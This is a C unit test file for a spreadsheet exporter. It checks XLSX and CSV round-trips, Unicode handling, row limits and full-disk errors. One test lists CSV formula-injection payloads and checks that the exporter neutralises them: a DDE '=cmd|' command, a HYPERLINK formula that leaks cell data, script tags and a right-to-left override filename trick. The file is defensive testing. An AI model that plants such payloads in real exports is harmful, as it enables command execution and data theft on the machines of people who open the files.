/*
 * sheet_out_test.c - what is written must come back: through our own reader cell by cell, as bytes
 * where bytes are the promise (CSV), and nothing when the disk is full.
 */
#include "base/buf.h"
#include "sheet/sheet.h"
#include "sheet/sheet_out.h"

#include <errno.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#define COLUMNS   3
#define BYTES_MAX ((size_t)8 << 20)

static char path[] = "/tmp/sheet-out-XXXXXX";
static int fd = -1;

static const struct sheet_out_column columns[COLUMNS] = {
    {STR_INIT("이름"), SHEET_OUT_TEXT, 0},
    {STR_INIT("수"), SHEET_OUT_NUMBER, 0},
    {STR_INIT("때"), SHEET_OUT_TIME, 20},
};
static const struct sheet_out_head head = {STR_INIT("고객"), columns, COLUMNS};

static int setup(void **state)
{
    (void)state;
    memcpy(path + sizeof path - 7, "XXXXXX", 6);
    fd = mkstemp(path);
    return fd < 0;
}

static int teardown(void **state)
{
    (void)state;
    close(fd);
    return unlink(path);
}

static struct sheet_out *begin(enum sheet_out_kind kind)
{
    struct sheet_out *o = sheet_out_open(kind, fd, &head);
    assert_non_null(o);
    return o;
}

static void end(struct sheet_out *o)
{
    assert_int_equal(sheet_out_close(&o), 0);
    assert_null(o);
}

/* One cell below a header of one column, written and read again; the caller's arena. */
static struct str through(enum sheet_out_kind kind, struct str cell, struct arena *a)
{
    static const struct sheet_out_column one = {STR_INIT("값"), SHEET_OUT_TEXT, 0};
    const struct sheet_out_head above = {STR_INIT("값"), &one, 1};
    const struct sheet_options plain = {0};
    struct sheet *s;
    struct sheet_row row;
    struct sheet_refusal why;
    struct str got = STR("");
    assert_int_equal(ftruncate(fd, 0), 0);
    assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
    struct sheet_out *o = sheet_out_open(kind, fd, &above);
    assert_non_null(o);
    assert_true(sheet_out_row(o, &cell, 1));
    end(o);
    assert_int_equal(sheet_open(path, &plain, a, &s, &why), SHEET_OK);
    assert_int_equal(sheet_next(s, &row), 1);
    assert_true(str_eq(row.cells[0], STR("값")));
    if (sheet_next(s, &row) == 1 && row.cell_count)
        got = str_dup(a, row.cells[0]);
    sheet_close(&s);
    return got;
}

/* ---- a workbook ---- */

static const struct {
    struct str in, out; /* out with ptr NULL: the same */
} texts[] = {
    {STR_INIT("홍길동"), {NULL, 0}},
    {STR_INIT("010-0000-0000"), {NULL, 0}},
    {STR_INIT("01000000000"), {NULL, 0}},
    {STR_INIT("00012"), {NULL, 0}},
    {STR_INIT("12345678901234567890"), {NULL, 0}},
    {STR_INIT("1e5"), {NULL, 0}},
    {STR_INIT("=1+1"), {NULL, 0}},
    {STR_INIT("＝1+1"), {NULL, 0}},
    {STR_INIT("'=1"), {NULL, 0}},
    {STR_INIT("https://example.com/?a=1&b=<2>\"3'"), {NULL, 0}},
    {STR_INIT("  둘레 빈칸  "), {NULL, 0}},
    {STR_INIT("첫 줄\n둘째 줄\n"), {NULL, 0}},
    {STR_INIT("\t탭\t"), {NULL, 0}},
    {STR_INIT("줄\r\n끝\r"), STR_INIT("줄\n끝\n")}, /* our reader's form; the file has CR */
    {STR_INIT("_x000D_ _x005F_ _x00 _"), {NULL, 0}},
    {STR_INIT("__x0041__x0041_"), {NULL, 0}},
    {STR_INIT("뷁 👨‍👩‍👧 \xF0\xA0\xAE\xB7"), {NULL, 0}},
    {STR_INIT("]]>&amp;<!--"), {NULL, 0}},
    {STR_INIT("가\x01나\x1B[2J\x7F"), STR_INIT("가나[2J\x7F")},
    {STR_INIT("\xEF\xBF\xBE\xEF\xBB\xBFＡ\xEF\xBF\xBF"), STR_INIT("\xEF\xBB\xBFＡ")},
    {STR_INIT("half \xED\xA0\x80 a pair"), STR_INIT("")},
    {STR_INIT("\xC3("
              "cut"),
     STR_INIT("")},
    {STR_INIT("a\0b"), STR_INIT("ab")},
};

static void a_workbook_gives_every_text_back(void **state)
{
    (void)state;
    ARENA(arena, ARENA_MAX_DEFAULT);
    for (size_t i = 0; i < COUNT_OF(texts); i++) {
        struct str want = texts[i].out.ptr ? texts[i].out : texts[i].in;
        struct str got = through(SHEET_OUT_XLSX, texts[i].in, &arena);
        if (!str_eq(got, want))
            fail_msg("text %zu: %.*s", i, STR_ARG(got));
    }
}

static void long_texts_end_where_excel_does(void **state)
{
    (void)state;
    ARENA(arena, ARENA_MAX_DEFAULT);
    BUF(text, BYTES_MAX);
    for (int kind = SHEET_OUT_XLSX; kind <= SHEET_OUT_CSV; kind++) {
        buf_clear(&text);
        for (int i = 0; i < 40000; i++)
            buf_lit(&text, "_x0041_"); /* the longest that a character can become */
        struct str got = through((enum sheet_out_kind)kind, buf_view(&text), &arena);
        assert_int_equal(got.len, SHEET_CHARS_MAX);
        buf_clear(&text);
        for (int i = 0; i < 20000; i++)
            buf_lit(&text, "👍"); /* two units each: half a pair may not stay behind */
        got = through((enum sheet_out_kind)kind, buf_view(&text), &arena);
        assert_int_equal(got.len, SHEET_CHARS_MAX / 2 * 4);
        assert_true(utf8_valid(got));
    }
}

static void columns_are_of_their_type(void **state)
{
    (void)state;
    ARENA(arena, ARENA_MAX_DEFAULT);
    static const struct {
        const char *in[COLUMNS], *out[COLUMNS];
    } rows[] = {
        {{"가", "12", "2026-11-24 15:03:59"}, {"가", "12", "2026-11-24 15:03:59"}},
        {{"", "0", "2000-02-29 00:00:00"}, {"", "0", "2000-02-29 00:00:00"}},
        {{"007", "007", "언젠가"}, {"007", "007", "언젠가"}},
        {{"-", "-5", "1999-12-31 23:59:59"}, {"-", "-5", "1999-12-31 23:59:59"}},
        {{"아침", "1", "2173-10-13 00:00:01"}, {"아침", "1", "2173-10-13 00:00:01"}},
        {{"옛날", "1", "1899-12-31 10:00:00"}, {"옛날", "1", "1899-12-31 10:00:00"}},
        {{"먼 날", "1", "2300-01-01 23:59:59"}, {"먼 날", "1", "2300-01-01 23:59:59"}},
        {{"x", "1234567890123456", "2026-11-24"}, {"x", "1234567890123456", "2026-11-24"}},
    };
    const struct sheet_options by_name = {.sheet = STR_INIT("고객")};
    struct sheet *s;
    struct sheet_row row;
    struct sheet_refusal why;
    struct sheet_out *o = begin(SHEET_OUT_XLSX);
    for (size_t i = 0; i < COUNT_OF(rows); i++) {
        struct str cells[COLUMNS];
        for (size_t c = 0; c < COLUMNS; c++)
            cells[c] = str_c(rows[i].in[c]);
        assert_true(sheet_out_row(o, cells, COLUMNS));
    }
    end(o);
    assert_int_equal(sheet_open(path, &by_name, &arena, &s, &why), SHEET_OK);
    assert_int_equal(sheet_next(s, &row), 1);
    for (size_t c = 0; c < COLUMNS; c++)
        assert_true(str_eq(row.cells[c], columns[c].title));
    for (size_t i = 0; i < COUNT_OF(rows); i++) {
        assert_int_equal(sheet_next(s, &row), 1);
        assert_int_equal(row.number, i + 2);
        for (size_t c = 0; c < COLUMNS; c++)
            if (!str_eq(row.cells[c], str_c(rows[i].out[c])))
                fail_msg("row %zu: %.*s", i, STR_ARG(row.cells[c]));
    }
    assert_int_equal(sheet_next(s, &row), 0);
    sheet_close(&s);
}

/* A row may be wider than the header, or empty; ptr NULL is an empty cell. */
static void rows_of_any_width(void **state)
{
    (void)state;
    ARENA(arena, ARENA_MAX_DEFAULT);
    const struct sheet_options plain = {0};
    struct sheet *s;
    struct sheet_row row;
    struct sheet_refusal why;
    struct str *cells = arena_array(&arena, SHEET_COLUMNS_MAX, sizeof *cells);
    struct sheet_out *o = begin(SHEET_OUT_XLSX);
    cells[SHEET_COLUMNS_MAX - 1] = STR("XFD");
    assert_true(sheet_out_row(o, cells, SHEET_COLUMNS_MAX));
    assert_true(sheet_out_row(o, NULL, 0));
    assert_true(sheet_out_row(o, &cells[SHEET_COLUMNS_MAX - 1], 1));
    end(o);
    assert_int_equal(sheet_open(path, &plain, &arena, &s, &why), SHEET_OK);
    assert_int_equal(sheet_next(s, &row), 1);
    assert_int_equal(sheet_next(s, &row), 1);
    assert_int_equal(row.cell_count, SHEET_COLUMNS_MAX);
    assert_true(str_eq(row.cells[SHEET_COLUMNS_MAX - 1], STR("XFD")));
    assert_int_equal(sheet_next(s, &row), 1);
    assert_int_equal(row.number, 4);
    sheet_close(&s);
}

static int64_t rows_of(struct arena *a, int sheet_number, struct str *first, struct str *last)
{
    const struct sheet_options nth = {.sheet_number = sheet_number};
    struct sheet *s;
    struct sheet_row row;
    struct sheet_refusal why;
    int64_t n = 0;
    int got;
    assert_int_equal(sheet_open(path, &nth, a, &s, &why), SHEET_OK);
    while ((got = sheet_next(s, &row)) == 1) {
        if (n++ == 1)
            *first = str_dup(a, row.cells[1]);
        if (row.number == SHEET_ROWS_MAX || n == 3)
            *last = str_dup(a, row.cells[1]);
    }
    assert_int_equal(got, 0);
    sheet_close(&s);
    return n;
}

static void what_a_sheet_cannot_hold_goes_on_in_the_next(void **state)
{
    (void)state;
    ARENA(arena, ARENA_MAX_DEFAULT);
    struct str first, last;
    struct sheet_out *o = begin(SHEET_OUT_XLSX);
    for (int i = 1; i <= SHEET_ROWS_MAX + 1; i++) {
        char number[16];
        snprintf(number, sizeof number, "%d", i);
        const struct str cells[2] = {STR(""), str_c(number)};
        assert_true(sheet_out_row(o, cells, 2));
    }
    end(o);
    assert_int_equal(rows_of(&arena, 1, &first, &last), SHEET_ROWS_MAX);
    assert_true(str_eq(first, STR("1")) && str_eq(last, STR("1048575")));
    assert_int_equal(rows_of(&arena, 2, &first, &last), 3);
    assert_true(str_eq(first, STR("1048576")) && str_eq(last, STR("1048577")));
}

/* ---- CSV ---- */

static struct str file_bytes(struct arena *a)
{
    struct stat about;
    assert_int_equal(fstat(fd, &about), 0);
    char *bytes = arena_alloc(a, (size_t)about.st_size + 1);
    assert_int_equal(pread(fd, bytes, (size_t)about.st_size, 0), about.st_size);
    return str_n(bytes, (size_t)about.st_size);
}

static void csv_byte_by_byte(void **state)
{
    (void)state;
    ARENA(arena, ARENA_MAX_DEFAULT);
    struct sheet_out *o = begin(SHEET_OUT_CSV);
    const struct str rows[][COLUMNS] = {
        {STR("홍, 길동"), STR("1"), STR("2026-11-24 15:03:59")},
        {STR("그가 \"예\" 했다"), {NULL, 0}, STR("줄\n바꿈")},
        {STR(" 빈칸"), STR(""), STR("")},
    };
    for (size_t i = 0; i < COUNT_OF(rows); i++)
        assert_true(sheet_out_row(o, rows[i], i == 2 ? 1 : COLUMNS));
    end(o);
    struct str want = STR("\xEF\xBB\xBF이름,수,때\r\n"
                          "\"홍, 길동\",1,2026-11-24 15:03:59\r\n"
                          "\"그가 \"\"예\"\" 했다\",,\"줄\n바꿈\"\r\n"
                          "\" 빈칸\",,\r\n");
    if (!str_eq(file_bytes(&arena), want))
        fail_msg("%.*s", STR_ARG(file_bytes(&arena)));
}

/* The values of hostile lists, and what must stand in an exported CSV. */
static const struct {
    struct str value;
    bool neutralised;
} formulas[] = {
    {STR_INIT("=cmd|'/c calc'!A1"), true},
    {STR_INIT("+1+1"), true},
    {STR_INIT("-1+1"), true},
    {STR_INIT("@SUM(1+1)"), true},
    {STR_INIT("\t=1+1"), true},
    {STR_INIT("\r=1+1"), true},
    {STR_INIT("\n=1+1"), true},
    {STR_INIT("=HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"ok\")"), true},
    {STR_INIT("＝1+1"), true},
    {STR_INIT("＋1"), true},
    {STR_INIT("－1"), true},
    {STR_INIT("＠SUM(1)"), true},
    {STR_INIT("="), true},
    {STR_INIT("-5"), true},
    {STR_INIT("+82 10-0000-0000"), true},
    {STR_INIT("\"=1+1\""), false},
    {STR_INIT(";=1+1"), false},
    {STR_INIT(",=1+1"), false},
    {STR_INIT("|cmd"), false},
    {STR_INIT("'=1+1"), false},
    {STR_INIT("홍길동=1"), false},
    {STR_INIT("<script>alert(1)</script>"), false},
    {STR_INIT("\x1B[2J"), false},
    {STR_INIT("\xE2\x80\xAE"
              "exe.cod"),
     false},
    {STR_INIT("＂＝"), false}, /* shares its first bytes with the full-width signs */
};

/* The one field of a CSV's second line, unquoted. */
static struct str field_of(struct arena *a, struct str bytes)
{
    ptrdiff_t from = str_find(bytes, STR("\r\n"), 0);
    assert_true(from > 0 && str_ends(bytes, STR("\r\n")));
    struct str field = str_slice(bytes, (size_t)from + 2, bytes.len - 2);
    if (!str_starts(field, STR("\"")))
        return field;
    char *out = arena_alloc(a, field.len);
    size_t n = 0;
    for (size_t i = 1; i + 1 < field.len; i++) {
        out[n++] = field.ptr[i];
        i += field.ptr[i] == '"';
    }
    return str_n(out, n);
}

static void formulas_are_made_harmless(void **state)
{
    (void)state;
    ARENA(arena, ARENA_MAX_DEFAULT);
    for (size_t i = 0; i < COUNT_OF(formulas); i++) {
        struct str value = formulas[i].value;
        struct str want =
            str_printf(&arena, "%s%.*s", formulas[i].neutralised ? "'" : "", STR_ARG(value));
        (void)through(SHEET_OUT_CSV, value, &arena);
        struct str got = field_of(&arena, file_bytes(&arena));
        if (!str_eq(got, want))
            fail_msg("value %zu: %.*s", i, STR_ARG(got));
        bool plain = value.ptr[0] != '\x1B' && value.ptr[0] != '\r';
        if (plain && !str_eq(through(SHEET_OUT_XLSX, value, &arena), value))
            fail_msg("value %zu in a workbook", i);
    }
}

/* A workbook has neither formulas nor links, whatever stands in it, in the header as well. */
static void titles_are_texts_too(void **state)
{
    (void)state;
    ARENA(arena, ARENA_MAX_DEFAULT);
    static const struct sheet_out_column evil = {STR_INIT("=1+1"), SHEET_OUT_TEXT, 0};
    const struct sheet_out_head above = {STR_INIT("고객"), &evil, 1};
    const struct sheet_options plain = {0};
    struct sheet *s;
    struct sheet_row row;
    struct sheet_refusal why;
    struct sheet_out *o = sheet_out_open(SHEET_OUT_XLSX, fd, &above);
    assert_non_null(o);
    end(o);
    assert_int_equal(sheet_open(path, &plain, &arena, &s, &why), SHEET_OK);
    assert_int_equal(sheet_next(s, &row), 1);
    assert_true(str_eq(row.cells[0], STR("=1+1")));
    sheet_close(&s);
    assert_int_equal(ftruncate(fd, 0), 0);
    assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
    o = sheet_out_open(SHEET_OUT_CSV, fd, &above);
    assert_non_null(o);
    end(o);
    assert_true(str_eq(file_bytes(&arena), STR("\xEF\xBB\xBF'=1+1\r\n")));
}

/* ---- the disk ---- */

static void a_full_disk_is_told(void **state)
{
    (void)state;
    struct rlimit before, small;
    signal(SIGXFSZ, SIG_IGN);
    assert_int_equal(getrlimit(RLIMIT_FSIZE, &before), 0);
    for (int kind = SHEET_OUT_XLSX; kind <= SHEET_OUT_CSV; kind++) {
        for (rlim_t room = 0; room < 200000; room += 66666) {
            char text[64];
            bool going = true;
            assert_int_equal(ftruncate(fd, 0), 0);
            assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
            small = (struct rlimit){room, before.rlim_max};
            assert_int_equal(setrlimit(RLIMIT_FSIZE, &small), 0);
            struct sheet_out *o = begin((enum sheet_out_kind)kind);
            for (unsigned i = 1, lot = 1; i < 100000 && going; i++) {
                lot = lot * 1664525u + 1013904223u;
                snprintf(text, sizeof text, "%u %u", i, lot);
                const struct str cell = str_c(text);
                going = sheet_out_row(o, &cell, 1);
            }
            int error = sheet_out_close(&o);
            assert_int_equal(setrlimit(RLIMIT_FSIZE, &before), 0);
            assert_false(going);
            assert_int_equal(error, EFBIG);
            assert_null(o);
        }
    }
    /* Too small for the flush at the very end. */
    assert_int_equal(ftruncate(fd, 0), 0);
    assert_int_equal(lseek(fd, 0, SEEK_SET), 0);
    small = (struct rlimit){10, before.rlim_max};
    struct sheet_out *o = begin(SHEET_OUT_CSV);
    assert_int_equal(setrlimit(RLIMIT_FSIZE, &small), 0);
    int error = sheet_out_close(&o);
    assert_int_equal(setrlimit(RLIMIT_FSIZE, &before), 0);
    assert_int_equal(error, EFBIG);
}

int main(void)
{
#define CASE(name) cmocka_unit_test_setup_teardown(name, setup, teardown)
    const struct CMUnitTest tests[] = {
        CASE(a_workbook_gives_every_text_back),
        CASE(long_texts_end_where_excel_does),
        CASE(columns_are_of_their_type),
        CASE(rows_of_any_width),
        CASE(what_a_sheet_cannot_hold_goes_on_in_the_next),
        CASE(csv_byte_by_byte),
        CASE(formulas_are_made_harmless),
        CASE(titles_are_texts_too),
        CASE(a_full_disk_is_told),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
